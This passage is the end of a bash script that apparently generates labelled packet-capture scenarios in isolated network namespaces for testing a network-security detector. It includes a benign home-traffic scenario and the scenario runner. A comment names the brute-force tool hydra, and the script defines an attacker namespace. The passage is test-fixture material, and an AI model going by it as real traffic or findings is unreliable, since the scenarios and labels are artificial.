    false '{}' "$(expl "$(exp cleartext.login "$MAC_LAPTOP")" "$(exp unsafe.telnet_exposed "$MAC_CAM")")"
}

sc_benign-home() {
  capture_start "$OUT/$1.pcap" 512 20000
  run 20 vs-laptop busybox nslookup www.example.com "$IP_ROUTER" >/dev/null
  run 20 vs-laptop curl -s -o /dev/null http://www.example.com/
  run 20 vs-laptop curl -s -o /dev/null http://www.example.com/news/today
  run 20 vs-cam curl -s -o /dev/null http://updates.example.com/firmware/latest.json
  run 20 vs-nas "$PY" "$HELP" ntp-query time.example.org 3
  run 20 vs-laptop busybox ping -c 3 www.example.com >/dev/null
  run 20 vs-laptop ssh -q -i "$W/ssh/client" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o BatchMode=yes "$USER_NAME@$IP_NAS" 'uptime; ls' >/dev/null || die "$1: the ssh login failed"
  run 20 vs-laptop curl -s -o /dev/null "http://$IP_NAS/"
  run 20 vs-cam "$PY" "$HELP" ntp-query "$INET_NTP" 2
  capture_stop
  label "$1" "busybox nslookup, curl, ping, ssh (key login) and an NTP-style query" \
    "Normal home traffic: DNS through the router, a few web pages, NTP, ping, one ssh login from the laptop to the NAS." \
    true '{}' '[]'
}

kill_daemons_named() { # stop daemons started by a scenario (their pid is the log's writer)
  local n p
  for n in "$@"; do
    for p in $(ip netns pids vs-inet 2>/dev/null; ip netns pids vs-laptop 2>/dev/null; ip netns pids vs-attacker 2>/dev/null); do
      [ "$(readlink "/proc/$p/fd/1" 2>/dev/null)" = "$W/logs/$n.log" ] && kill -TERM "$p" 2>/dev/null || true
    done
  done
  sleep 0.5
}

# ---- main ----
if [ "${1:-}" = "--list" ]; then printf '%s\n' "${SCENARIOS[@]}"; exit 0; fi
# One scenario, run by the main run as a child process (W is inherited): a failure ends only
# this process, the capture it started is stopped, and the main run may try once more.
if [ "${1:-}" = "--child" ]; then
  [ -n "${W:-}" ] && [ -d "$W" ] || die "--child is internal to generate.sh"
  trap 'if [ -n "${CAP_PID:-}" ]; then kill -INT "$CAP_PID" 2>/dev/null || true; fi' EXIT
  set -E
  trap 'echo "generate: FAILED (lines ${BASH_LINENO[*]}): $BASH_COMMAND" >&2' ERR
  "sc_$2" "$2"
  exit 0
fi
[ "$(id -u)" -eq 0 ] || die "needs root (network namespaces): run it with sudo."
UP_ONLY=0
if [ "${1:-}" = "--up" ]; then UP_ONLY=1; shift; fi
SELECTED=("$@")
[ ${#SELECTED[@]} -gt 0 ] || SELECTED=("${SCENARIOS[@]}")
for s in "${SELECTED[@]}"; do
  printf '%s\n' "${SCENARIOS[@]}" | grep -qx -- "$s" || die "unknown scenario '$s' (try --list)"
done
need_tools
for ns in "${NAMESPACES[@]}"; do
  ip netns list | awk '{print $1}' | grep -qx "$ns" && die "namespace $ns exists: another run is going on, or delete it with 'ip netns del $ns'"
done

W="$(mktemp -d /tmp/vs-scenarios.XXXXXX)"
trap teardown EXIT
set -E
trap 'echo "generate: FAILED (lines ${BASH_LINENO[*]}): $BASH_COMMAND" >&2' ERR
trap 'exit 130' INT
trap 'exit 143' TERM
mkdir -p "$OUT"
prepare_files
build_network
start_services
if [ "$UP_ONLY" = 1 ]; then
  say "network and services up (work folder $W); Ctrl-C or SIGTERM to tear down"
  sleep infinity & wait $! || true
  exit 0
fi
for s in "${SELECTED[@]}"; do
  say "scenario $s"
  t0=$(date +%s)
  # hydra and friends fail now and then (a refused connection, a slow reply): one more try,
  # from scratch, before giving up
  if ! W="$W" VS_OUT="$OUT" bash "$0" --child "$s"; then
    say "  $s failed; trying once more"
    W="$W" VS_OUT="$OUT" bash "$0" --child "$s" || die "$s failed twice (logs: $W/logs)"
  fi
  f="$OUT/$s.pcap"
  say "  $s.pcap: $(stat -c %s "$f") bytes, $(tcpdump -nn -r "$f" 2>/dev/null | wc -l) packets, $(( $(date +%s) - t0 )) s"
  # after each scenario, so a later failure keeps the labels of the captures already made
  "$PY" "$HELP" merge "$OUT/labels.json" "test/scenarios/generate.sh" "$W/parts" "${SCENARIOS[@]}"
done
say "labels: $OUT/labels.json"
